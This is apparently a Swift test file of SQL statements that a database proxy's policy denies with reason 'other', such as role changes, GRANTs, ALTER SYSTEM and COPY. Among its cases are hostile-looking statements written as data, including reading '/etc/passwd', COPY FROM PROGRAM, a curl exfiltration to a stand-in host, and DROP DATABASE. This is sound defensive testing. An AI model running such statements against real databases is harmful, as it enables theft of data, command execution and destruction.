// policy.md, "Everything else: deny with reason `other`".

private let other = "Everything else: deny with reason `other`"
private let kinds = "Everything else: `CREATE SCHEMA`, `CREATE/ALTER/DROP FUNCTION|PROCEDURE|TRIGGER|TYPE|DOMAIN|EXTENSION|ROLE|USER|DATABASE|POLICY|RULE|...`"
private let setClause = "When several rules deny one statement: a statement of a denied kind that carries a `SET` clause (`ALTER ROLE ... SET search_path`, `CREATE FUNCTION ... SET`) is denied for its kind"
private let proxyAlone = "Defence in depth: what the server cannot refuse a role, the proxy alone stops: `ALTER ROLE <self> SET ...`, `ALTER ROLE <self> PASSWORD`, `CREATE TYPE/DOMAIN` in `storage`"
private let notNamed = "Everything else: any statement kind not named in this document"
private let file = "Everything else: `COPY ... TO|FROM 'file'`, `COPY ... PROGRAM`"

let otherStatementCases: [Case] = [
    // Schemas, functions, procedures, triggers.
    Case("CREATE SCHEMA analytics", .deny(.other), kinds: ["CreateSchemaStmt"], why: kinds),
    Case("CREATE SCHEMA IF NOT EXISTS storage", .deny(.other), why: kinds),
    Case("CREATE SCHEMA AUTHORIZATION CURRENT_USER", .deny(.other), why: kinds),
    Case("CREATE SCHEMA s CREATE TABLE t (id int)", .deny(.other), why: kinds),
    Case("DROP SCHEMA storage CASCADE", .deny(.other), why: kinds + " (a schema, not a `storage.<name>` relation)"),
    Case("DROP SCHEMA dl_cache CASCADE", .deny(.other), why: kinds + " (a schema, not a relation)"),
    Case("ALTER SCHEMA storage RENAME TO storage_old", .deny(.other), why: kinds),
    Case("CREATE FUNCTION storage.f() RETURNS int LANGUAGE sql AS 'SELECT 1'", .deny(.other), kinds: ["CreateFunctionStmt"], why: kinds),
    Case(
        "CREATE OR REPLACE FUNCTION storage.f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN DELETE FROM dl_cache.person_enrichments; RETURN 1; END $$",
        .deny(.other), why: kinds + " (the body is a string: the kind decides)"
    ),
    Case("CREATE FUNCTION storage.f() RETURNS int LANGUAGE sql SET search_path = public AS 'SELECT 1'", .deny(.other), why: setClause),
    Case("CREATE PROCEDURE storage.p() LANGUAGE sql AS $$ INSERT INTO storage.notes VALUES (1) $$", .deny(.other), why: kinds),
    Case("ALTER FUNCTION storage.f() SET search_path = public", .deny(.other), why: setClause),
    Case("ALTER FUNCTION storage.f() OWNER TO postgres", .deny(.other), why: kinds),
    Case("DROP FUNCTION storage.f()", .deny(.other), why: kinds),
    Case("DROP PROCEDURE IF EXISTS storage.p()", .deny(.other), why: kinds),
    Case("CREATE TRIGGER trg BEFORE INSERT ON storage.notes FOR EACH ROW EXECUTE FUNCTION storage.f()", .deny(.other), why: kinds),
    Case("ALTER TRIGGER trg ON storage.notes RENAME TO trg2", .deny(.other), why: kinds),
    Case("DROP TRIGGER trg ON storage.notes", .deny(.other), why: kinds),
    Case("CREATE EVENT TRIGGER et ON ddl_command_start EXECUTE FUNCTION storage.f()", .deny(.other), why: notNamed),

    // Types, domains, extensions.
    Case("CREATE TYPE storage.mood AS ENUM ('happy', 'sad')", .deny(.other), why: proxyAlone),
    Case("CREATE TYPE storage.pair AS (a int, b int)", .deny(.other), why: proxyAlone),
    Case("CREATE DOMAIN storage.positive AS int CHECK (VALUE > 0)", .deny(.other), why: proxyAlone),
    Case("ALTER TYPE storage.mood ADD VALUE 'meh'", .deny(.other), why: kinds),
    Case("ALTER DOMAIN storage.positive SET DEFAULT 1", .deny(.other), why: kinds),
    Case("DROP TYPE storage.mood", .deny(.other), why: kinds),
    Case("DROP DOMAIN storage.positive", .deny(.other), why: kinds),
    Case("CREATE EXTENSION dblink", .deny(.other), why: kinds),
    Case("CREATE EXTENSION IF NOT EXISTS pg_trgm SCHEMA storage", .deny(.other), why: kinds),
    Case("ALTER EXTENSION pg_trgm UPDATE", .deny(.other), why: kinds),
    Case("DROP EXTENSION pg_trgm", .deny(.other), why: kinds),

    // Roles, users, databases.
    Case("CREATE ROLE intruder LOGIN PASSWORD 'x'", .deny(.other), why: kinds),
    Case("CREATE USER intruder", .deny(.other), why: kinds),
    Case("ALTER ROLE CURRENT_USER PASSWORD 'new'", .deny(.other), why: proxyAlone),
    Case("ALTER USER CURRENT_USER WITH PASSWORD 'new'", .deny(.other), why: proxyAlone),
    Case("ALTER ROLE CURRENT_USER SET search_path = public", .deny(.other), why: setClause + "; " + proxyAlone),
    Case("ALTER ROLE CURRENT_USER SET standard_conforming_strings = off", .deny(.other), why: proxyAlone),
    Case("ALTER ROLE CURRENT_USER IN DATABASE customer_db SET search_path TO storage", .deny(.other), why: setClause),
    Case("ALTER ROLE CURRENT_USER RESET ALL", .deny(.other), why: proxyAlone),
    Case("ALTER USER someone SET search_path TO dl_cache", .deny(.other), why: setClause),
    Case("ALTER ROLE someone RENAME TO other", .deny(.other), why: kinds),
    Case("DROP ROLE someone", .deny(.other), why: kinds),
    Case("CREATE DATABASE other_db", .deny(.other), why: kinds),
    Case("ALTER DATABASE customer_db SET search_path = public", .deny(.other), why: setClause),
    Case("DROP DATABASE customer_db", .deny(.other), why: kinds),

    // Policies and rules.
    Case("CREATE POLICY p ON storage.notes USING (true)", .deny(.other), why: kinds),
    Case("ALTER POLICY p ON storage.notes USING (false)", .deny(.other), why: kinds),
    Case("DROP POLICY p ON storage.notes", .deny(.other), why: kinds),
    Case("CREATE RULE r AS ON INSERT TO storage.notes DO INSTEAD NOTHING", .deny(.other), why: kinds),
    Case("DROP RULE r ON storage.notes", .deny(.other), why: kinds),

    // DO, CALL, privileges.
    Case("DO $$ BEGIN NULL; END $$", .deny(.other), kinds: ["DoStmt"], why: "Everything else: `DO`"),
    Case("DO LANGUAGE plpgsql $$ BEGIN PERFORM 1; END $$", .deny(.other), why: "Everything else: `DO`"),
    Case("CALL storage.p()", .deny(.other), why: "Everything else: `CALL`"),
    Case("GRANT SELECT ON storage.notes TO PUBLIC", .deny(.other), why: "Everything else: `GRANT`"),
    Case("GRANT ALL ON SCHEMA storage TO PUBLIC", .deny(.other), why: "Everything else: `GRANT`"),
    Case("GRANT pg_read_server_files TO CURRENT_USER", .deny(.other), why: "Everything else: `GRANT`"),
    Case("REVOKE ALL ON storage.notes FROM PUBLIC", .deny(.other), why: "Everything else: `REVOKE`"),
    Case("ALTER DEFAULT PRIVILEGES IN SCHEMA storage GRANT SELECT ON TABLES TO PUBLIC", .deny(.other), why: "Everything else: `ALTER DEFAULT PRIVILEGES`"),
    Case("REASSIGN OWNED BY CURRENT_USER TO postgres", .deny(.other), why: notNamed),
    Case("DROP OWNED BY CURRENT_USER", .deny(.other), why: notNamed),

    // Server administration.
    Case("ALTER SYSTEM SET search_path = 'public'", .deny(.other), kinds: ["AlterSystemStmt"], why: "Everything else: `ALTER SYSTEM` (" + setClause + ")"),
    Case("ALTER SYSTEM SET standard_conforming_strings = off", .deny(.other), why: "Everything else: `ALTER SYSTEM`"),
    Case("LOAD 'auto_explain'", .deny(.other), why: "Everything else: `LOAD`"),
    Case("CHECKPOINT", .deny(.other), why: "Everything else: `CHECKPOINT`"),
    Case("VACUUM", .deny(.other), why: "Everything else: `VACUUM`"),
    Case("VACUUM FULL storage.notes", .deny(.other), why: "Everything else: `VACUUM` (even of storage)"),
    Case("VACUUM (ANALYZE, VERBOSE) storage.notes", .deny(.other), why: "Everything else: `VACUUM`"),
    Case("ANALYZE storage.notes", .deny(.other), why: "Everything else: `ANALYZE`"),
    Case("ANALYZE", .deny(.other), why: "Everything else: `ANALYZE`"),
    Case("CLUSTER storage.notes USING notes_pkey", .deny(.other), why: "Everything else: `CLUSTER`"),
    Case("REINDEX TABLE storage.notes", .deny(.other), why: "Everything else: `REINDEX`"),
    Case("REINDEX INDEX CONCURRENTLY storage.notes_pkey", .deny(.other), why: "Everything else: `REINDEX`"),
    Case("SECURITY LABEL ON TABLE storage.notes IS 'secret'", .deny(.other), why: "Everything else: `SECURITY LABEL`"),

    // Files and programs.
    Case("COPY storage.notes FROM '/etc/passwd'", .deny(.other), why: file),
    Case("COPY storage.notes TO '/tmp/notes.csv'", .deny(.other), why: file),
    Case("COPY (SELECT * FROM dl_resolved.people) TO '/tmp/people.csv'", .deny(.other), why: file),
    Case("COPY storage.notes FROM PROGRAM 'id'", .deny(.other), why: file),
    Case("COPY (SELECT 1) TO PROGRAM 'curl -d @- https://example.invalid'", .deny(.other), why: file),
    Case(
        "COPY dl_cache.person_enrichments FROM '/etc/passwd'", .deny(.write),
        why: "A write whose target is not `storage.<name>` is denied with reason `write`; " + file + "; When several rules deny one statement: write before other"
    ),

    // Foreign data and replication objects.
    Case("IMPORT FOREIGN SCHEMA public FROM SERVER s INTO storage", .deny(.other), why: "Everything else: `IMPORT FOREIGN SCHEMA`"),
    Case("CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'example.invalid')", .deny(.other), why: "Everything else: `CREATE SERVER`"),
    Case("CREATE FOREIGN DATA WRAPPER w", .deny(.other), why: notNamed),
    Case("CREATE USER MAPPING FOR CURRENT_USER SERVER s OPTIONS (user 'u')", .deny(.other), why: notNamed),
    Case("CREATE FOREIGN TABLE storage.remote (id int) SERVER s", .deny(.other), why: notNamed + " (a foreign table is not a table of the storage-write list)"),
    Case("CREATE PUBLICATION pub FOR ALL TABLES", .deny(.other), why: notNamed),
    Case("CREATE SUBSCRIPTION sub CONNECTION 'host=example.invalid' PUBLICATION pub", .deny(.other), why: notNamed),

    // Other object kinds, even in storage.
    Case("CREATE STATISTICS storage.st ON person_id, body FROM storage.notes", .deny(.other), why: notNamed),
    Case("CREATE COLLATION storage.c (locale = 'C')", .deny(.other), why: notNamed),
    Case("CREATE AGGREGATE storage.agg (int) (sfunc = int4pl, stype = int)", .deny(.other), why: notNamed),
    Case("CREATE OPERATOR storage.=== (leftarg = int, rightarg = int, function = int4eq)", .deny(.other), why: notNamed),
    Case("CREATE CAST (int AS storage.mood) WITH INOUT", .deny(.other), why: notNamed),
    Case("CREATE TEXT SEARCH CONFIGURATION storage.cfg (COPY = simple)", .deny(.other), why: notNamed),
    Case("CREATE TABLESPACE t LOCATION '/tmp'", .deny(.other), why: notNamed),
    Case("CREATE LANGUAGE plperlu", .deny(.other), why: notNamed),
    Case("CREATE ACCESS METHOD am TYPE TABLE HANDLER heap_tableam_handler", .deny(.other), why: notNamed),
    Case("ALTER TABLE ALL IN TABLESPACE pg_default SET TABLESPACE t", .deny(.other), why: notNamed),
    Case("ALTER LARGE OBJECT 4242 OWNER TO postgres", .deny(.other), why: notNamed),
    Case("COMMENT ON LARGE OBJECT 4242 IS 'x'", .deny(.other), why: notNamed),
    Case("GRANT SELECT ON LARGE OBJECT 4242 TO PUBLIC", .deny(.other), why: "Everything else: `GRANT`"),
    Case("DROP FOREIGN TABLE storage.remote", .deny(.other), why: notNamed + " (not in `DROP TABLE|INDEX|VIEW|MATERIALIZED VIEW|SEQUENCE`)"),
    Case("DROP TYPE storage.mood CASCADE", .deny(.other), why: kinds),
]
